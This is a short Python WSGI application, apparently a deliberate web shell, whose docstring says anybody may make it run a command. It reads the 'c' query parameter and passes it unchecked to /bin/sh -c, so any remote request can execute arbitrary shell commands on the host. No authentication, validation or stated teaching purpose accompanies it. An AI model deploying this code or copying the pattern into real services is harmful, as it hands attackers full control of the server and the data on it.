"""A service that anybody may make run a command: /run?c=…"""

import subprocess
from urllib.parse import parse_qs


def app(environ, start_response):
    command = parse_qs(environ.get("QUERY_STRING", "")).get("c")
    if command:
        subprocess.call(["/bin/sh", "-c", command[0]])
    start_response("200 OK", [("Content-Type", "text/plain")])
    return [b"up\n"]
